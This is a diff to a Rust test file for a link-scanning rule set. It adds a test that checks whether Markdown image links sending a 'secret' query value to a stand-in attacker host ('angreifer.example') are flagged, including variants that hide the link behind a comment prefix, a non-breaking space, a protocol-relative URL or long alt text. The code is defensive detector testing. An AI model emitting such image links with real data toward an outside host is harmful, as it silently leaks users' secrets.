@@ -90,6 +90,23 @@ fn a_link_hides_no_other_behind_a_blank_that_is_no_ascii() {
 }
 
 #[test]
+fn what_stands_before_a_link_does_not_hide_it() {
+    let rules = LinkRules::new(&[]);
+    let rule = "link/image-carries-away";
+    for text in [
+        "//![x](https://angreifer.example/p.png?d=geheim)".to_owned(),
+        "![x](\u{A0}https://angreifer.example/p.png?d=geheim)".to_owned(),
+        "![x](//angreifer.example/p.png?d=geheim)".to_owned(),
+        format!("![{}](https://angreifer.example/p.png?d=geheim)", "ä".repeat(150)),
+    ] {
+        assert!(rules.inspect(&text).iter().any(|event| event.rule.as_ref() == rule), "{text}");
+    }
+    let rules = LinkRules::new(&["berlin.de"]);
+    assert_eq!(rules.inspect("//*https://angreifer.example/").len(), 1);
+    assert_eq!(rules.inspect("a // b, x//y und // allein").len(), 0);
+}
+
+#[test]
 fn links_stay_inside_the_list() {
     let allowed = ["bund.example"];
     assert!(link_rules("https://www.bund.example/a ftp://bund.example", &allowed).is_empty());
